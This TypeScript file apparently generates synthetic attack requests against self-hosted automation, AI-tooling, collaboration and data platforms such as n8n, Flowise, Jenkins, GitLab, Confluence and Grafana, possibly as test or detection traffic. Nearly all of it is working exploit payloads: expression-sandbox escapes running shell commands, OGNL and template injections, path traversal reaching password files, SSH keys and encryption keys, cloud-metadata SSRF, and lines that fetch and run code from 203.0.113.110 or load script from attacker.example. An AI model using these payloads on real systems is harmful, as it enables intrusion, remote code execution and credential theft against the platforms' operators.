import type { Chance } from '../../make/chance.ts';
import type { WholeWriter } from '../../make/whole.ts';

/** Known holes of platforms for workflows and agents, and of what teams host beside them. */
export function writeAutomation(write: WholeWriter, chance: Chance): void {
  writeWorkflows(write, chance);
  writeAgents(write, chance);
  writeTeams(write, chance);
  writeData(write);
}

const named =
  (write: WholeWriter): ((technique: string, site?: 'n8n' | 'flowise') => void) =>
  (technique, site) =>
    write.as({ class: 'advisory', technique, ...(site === undefined ? {} : { site }) });

function writeWorkflows(write: WholeWriter, chance: Chance): void {
  const technique = named(write);
  technique('n8n: files named in the body of a form', 'n8n');
  for (const [name, filepath] of [
    ['cv', '/home/node/.n8n/database.sqlite'],
    ['upload', '/proc/self/environ'],
    ['field-0', '/home/node/.n8n/config'],
  ] as const)
    write.json(`/form/${chance.uuid()}`, {
      data: {},
      files: { [name]: { filepath, originalFilename: 'a.txt', mimetype: 'text/plain', size: 900, newFilename: 'x' } },
    });
  technique('n8n: an expression that leaves its box', 'n8n');
  write.json('/rest/workflows', {
    name: 'w',
    nodes: [
      {
        type: 'n8n-nodes-base.set',
        parameters: {
          value:
            "={{ (function(){ return this.process.mainModule.require('child_process').execSync('printenv').toString() })() }}",
        },
      },
    ],
  });
  write.json(`/form-test/${chance.uuid()}`, {
    'field-0': "={{ this.constructor.constructor('return process.env')() }}",
  });
  technique('n8n: files of packages', 'n8n');
  write.get('/icons/n8n-nodes-base/dist/nodes/../../../../../../home/node/.n8n/config.svg');
  write.get('/rest/binary-data?id=filesystem-v2:../../../../home/node/.n8n/config&action=download');
  write.get('/rest/binary-data?id=filesystem:..%2f..%2fconfig&action=view&mimeType=text/html');
  technique('Flowise: names in capitals past the sign-in', 'flowise');
  write.get('/API/V1/credentials');
  write.get('/Api/v1/chatflows');
  write.json('/API/v1/apikey', { keyName: 'k' });
  technique('Flowise: a server of tools from outside', 'flowise');
  write.json('/api/v1/node-load-method/customMCP', {
    loadMethod: 'listActions',
    inputs: {
      mcpServerConfig: "({x:(function(){return process.mainModule.require('child_process').execSync('uname -a')})()})",
    },
  });
  write.json(
    '/api/v1/node-load-method/customMCP',
    { loadMethod: 'listActions', inputs: { mcpServerConfig: { command: 'sh', args: ['-c', 'wget 203.0.113.110/f'] } } },
    { 'x-request-from': 'internal' },
  );
  technique('Flowise: an attachment that climbs', 'flowise');
  const body =
    '--fB\r\nContent-Disposition: form-data; name="files"; filename="api.json"\r\nContent-Type: application/json\r\n\r\n[{"keyName":"x","apiKey":"known"}]\r\n--fB--\r\n';
  for (const path of [
    '..%2f..%2f..%2f..%2froot/.flowise',
    '../../../usr/src/.flowise',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fapp',
  ])
    write.send(`/api/v1/attachments/${path}/x`, 'multipart/form-data; boundary=fB', body);
  technique('Flowise: files of storage', 'flowise');
  write.get(`/api/v1/get-upload-file?chatflowId=${chance.uuid()}&chatId=../../..&fileName=database.sqlite`);
  write.json('/api/v1/openai-assistants-file/download', { fileName: '../../../../../root/.flowise/encryption.key' });
  write.get('/api/v1/get-upload-path/..%2f..%2f..%2fetc');
  technique('Flowise: names that come back as a page', 'flowise');
  write.get('/api/v1/public-chatflows/%3Csvg%20onload=alert(document.domain)%3E');
  write.get('/api/v1/chatflows-streaming/%3Cimg%20src=x%20onerror=import(%27//attacker.example/f.js%27)%3E');
  technique('Node-RED: a flow that runs a program');
  write.json('/red/flows', [
    { id: 'a', type: 'exec', command: 'id > /tmp/nr', wires: [[]] },
    { id: 'b', type: 'inject', once: true, wires: [['a']] },
  ]);
  write.get('/ui_base/js/..%2f..%2f..%2f..%2fsettings.js');
  technique('Airflow: an example job with a command');
  write.json('/api/experimental/dags/example_trigger_target_dag/dag_runs', {
    conf: { message: '"; curl 203.0.113.110/af | sh; #' },
  });
  write.json('/api/v1/dags/example_bash_operator/dagRuns', {
    conf: { run_id: '{{ "".__class__.__mro__[1].__subclasses__() }}' },
  });
  technique('Jenkins: scripts and arguments');
  write.send(
    '/jenkins/scriptText',
    'application/x-www-form-urlencoded',
    'script=println+%22hostname%22.execute().text',
  );
  technique('TeamCity: a page behind another');
  write.get('/res/../app/https/settings/uploadCertificate');
}

function writeAgents(write: WholeWriter, chance: Chance): void {
  const technique = named(write);
  technique('Ollama: a model whose layer climbs');
  write.json('/api/create', { name: 'x', modelfile: 'FROM /etc/passwd' });
  write.json('/api/push', { name: 'attacker.example/../../../../etc/shadow', insecure: true });
  technique('Gradio: files by their path');
  write.get('/gradio_api/file=/proc/self/environ');
  technique('MLflow: artefacts that climb');
  write.get('/ajax-api/2.0/mlflow/artifacts/list?path=C:/&run_id=1');
  technique('Ray: a job for anybody');
  write.get('/static/js/../../../../../../etc/passwd');
  technique('ComfyUI and its kin: custom nodes');
  write.json('/customnode/install/git_url', 'https://attacker.example/n.git;id');
  write.get('/view?filename=../../../../etc/passwd&type=input');
  technique('LiteLLM: a template in the settings');
  write.json('/config/update', { litellm_settings: { success_callback: ['os.system("id")'] } });
  write.json('/health/test_connection', {
    litellm_params: { model: 'x', api_base: 'http://169.254.169.254/' },
    mode: "{{ self.__init__.__globals__['os'].popen('id') }}",
  });
  technique('AnythingLLM and others: names of documents');
  write.get('/api/system/logo/..%2f..%2f..%2fanythingllm.db');
  write.json('/api/workspace/a/remove-folder', { name: '../../../../' });
  technique('Dify and RagFlow: files and lookups');
  write.get('/console/api/remote-files/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F');
  write.get('/v1/document/image/..%2f..%2fconf%2fservice_conf.yaml');
  technique('Jupyter: a terminal and its files');
  write.json('/api/kernels', { name: '../../../../tmp/k', path: '$(id)' });
  write.get('/files/..%2f..%2f..%2froot%2f.ssh%2fid_rsa?token=');
  technique('Marimo, Streamlit: statics that climb');
  write.get('/static/..%5c..%5c..%5c.streamlit%5csecrets.toml');
  write.get(`/component/streamlit.${chance.word(4)}/..%2f..%2f..%2f..%2fetc%2fpasswd`);
}

function writeTeams(write: WholeWriter, chance: Chance): void {
  const technique = named(write);
  const form = 'application/x-www-form-urlencoded';
  technique('Gitea and Gogs: what git is told');
  write.json('/api/v1/repos/a/b/contents/.git/config', {
    content: 'W2NvcmVdCiBzc2hDb21tYW5kID0gY3VybCAyMDMuMC4xMTMuMTEw',
    branch: 'main',
    message: 'm',
  });
  write.get('/a/b/compare/--output=/tmp/x...main');
  write.get('/api/v1/repos/a/b/git/trees/--upload-pack=id');
  technique('GitLab: pictures, mails and imports');
  write.send('/users/password', form, 'user[email][]=cto@example.com&user[email][]=x@attacker.example');
  write.send(
    '/uploads/user',
    'multipart/form-data; boundary=gL',
    '--gL\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\0\0\x03\xafDJVMDIRM(metadata (Copyright "\\\n" . qx{curl 203.0.113.110/g|sh} . \\\n" b "))\r\n--gL--\r\n',
  );
  write.get(
    '/group/a/b/c/d/e/f/g/h/i/p/uploads/0123456789abcdef0123456789abcdef//..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
  );
  technique('Confluence: OGNL and a new setup');
  write.get(
    '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22w%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/',
  );
  technique('Jira: templates and files');
  write.get('/s/x/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.xml');
  write.send(
    '/secure/ContactAdministrators.jspa',
    form,
    "from=a@b.example&subject=$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')&details=x",
  );
  technique('XWiki: macros in a search');
  write.get('/xwiki/bin/view/Main/?xpage=reuse&ssx=..%2f..%2fWEB-INF%2fxwiki.cfg');
  write.get('/xwiki/rest/wikis/xwiki/query?q=where%201%3C%3E%27a%5C%27%27%20union%20select%201%20%23%27&type=hql');
  technique('Roundcube and Zimbra: mails that run');
  write.send(
    '/roundcube/?_task=settings&_action=upload&_from=edit-!xxx&_id=1',
    'multipart/form-data; boundary=rC',
    '--rC\r\nContent-Disposition: form-data; name="_file[]"; filename="x|O:16:\\"Crypt_GPG_Engine\\":1:{S:26:\\"\\00Crypt_GPG_Engine\\00_gpgconf\\";S:5:\\"id;#x\\";}"\r\nContent-Type: image/png\r\n\r\nx\r\n--rC--\r\n',
  );
  technique('Nextcloud and ownCloud: what lies beside');
  write.get('/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css');
  write.get('/remote.php/dav/files/admin/?OC-Credential=admin&OC-Verb=GET&OC-Expires=99999&OC-Date=2035&OC-Signature=');
  write.get('/index.php/apps/richdocuments/settings/fonts/..%2f..%2fconfig%2fconfig.php');
  technique('Mattermost, Rocket.Chat: tokens by questions');
  write.json('/plugins/playbooks/api/v0/runs', { name: 'x', checklists: [{ url: 'file:///etc/passwd' }] });
  technique('Moodle and osTicket: formulas, names');
  write.send(
    '/question/bank/editquestion/question.php',
    form,
    'qtype=calculated&answer[0]=(1)->{system($_GET[chr(97)])}&fraction[0]=1.0',
  );
  write.send('/upload/scp/ajax.php/i18n/en/tips', form, 'a=../../../../include/ost-config.php');
  write.get(
    `/lib/ajax/service-nologin.php?args=[{"index":0,"methodname":"core_output_load_template","args":{"component":"../../../config","template":"${chance.word(3)}"}}]`,
  );
}

function writeData(write: WholeWriter): void {
  const technique = named(write);
  technique('Grafana: plugins, routes and expressions');
  write.get('/public/plugins/alertlist/..%2f..%2f..%2f..%2f..%2f..%2fvar/lib/grafana/grafana.db');
  write.get('/render/public/..%252f%255Cattacker.example%252f%253F%252f..%252f..');
  technique('Metabase: a connection that runs');
  write.get('/api/geojson?url=file:/etc/passwd');
  technique('Superset and Redash: sessions and sources');
  write.json('/api/v1/database/test_connection/', {
    sqlalchemy_uri: 'sqlite+shillelagh:////etc/passwd?x=%2F..',
    impersonate_user: false,
  });
  write.json('/api/query_results', {
    data_source_id: 1,
    query: "import os; os.popen('id').read()",
    max_age: 0,
    parameters: { x: '{{ cycler.__init__.__globals__.os.popen("id").read() }}' },
  });
  technique('Kibana and Elasticsearch: expressions');
  write.get('/api/console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../../../../../../etc/passwd');
  technique('Solr: settings and templates');
  write.json('/solr/demo/config', {
    'add-listener': {
      event: 'postCommit',
      name: 'n',
      class: 'solr.RunExecutableListener',
      exe: 'sh',
      dir: '/bin/',
      args: ['-c', 'id'],
    },
  });
  write.get('/solr/demo/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd');
  write.get('/solr/admin/info/key:/admin/cores?action=CREATE&name=x&configSet=../../../../tmp');
  technique('pgAdmin and phpMyAdmin: paths to programs');
  write.json('/misc/validate_binary_path', { utility_path: 'a";id;"' });
  write.send(
    '/pgadmin4/sqleditor/query_tool/download/1',
    'application/json',
    '{"query_commited":"__import__(\'os\').system(\'id\')"}',
  );
  technique('GeoServer: names that are evaluated');
  write.get(
    "/geoserver/ows?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/gs')",
  );
  technique('MinIO, Nexus, Artifactory: what a mirror gives away');
  write.get('/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow');
  write.send('/minio/bootstrap/v1/verify', 'application/x-www-form-urlencoded', '');
  write.json('/service/rest/beta/repositories/go/group', {
    name: 'i',
    online: true,
    storage: { blobStoreName: 'default' },
    group: {
      memberNames: ["$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}"],
    },
  });
}
